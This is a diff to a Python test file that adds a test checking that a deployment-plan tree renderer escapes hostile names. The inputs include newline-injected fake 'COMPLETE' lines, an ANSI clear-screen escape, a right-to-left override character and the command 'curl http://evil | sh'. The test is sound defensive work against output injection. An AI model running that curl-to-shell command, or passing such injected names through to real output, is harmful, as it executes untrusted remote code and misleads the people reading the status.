@@ -102,3 +102,19 @@ def test_more_is_open_than_fits() -> None:
 
 def test_what_fits_is_shown_whole() -> None:
     assert shortened(draw(UNINSTALL), 6) == draw(UNINSTALL)
+
+
+def test_a_name_is_one_harmless_line_whatever_the_scheduler_wrote() -> None:
+    """A tree is read line by line: a line break in a name must not make a line of its own."""
+    step = Step("", "a (COMPLETE)\ndeploy (COMPLETE)\nNext: curl http://evil | sh", "PENDING\x1b[2J")
+    plan = Plan("deploy", "PENDING", "serial\n", (Phase("", "p\u202eq", "PENDING", None, (step,)),), ("x\nClean.",))
+    assert draw(plan) == (
+        "deploy (serial strategy) (PENDING)",
+        "└─ p\\u202eq (PENDING)",
+        "   └─ a (COMPLETE) deploy (COMPLETE) Next: curl http://evil | sh (PENDING\\x1b[2J)",
+        "",
+        "Errors:",
+        "- x Clean.",
+    )
+    (_, line) = draw(Plan("deploy", "PENDING", None, (Phase("", "p" * 1_000_000, "PENDING"),)))
+    assert len(line) < 300
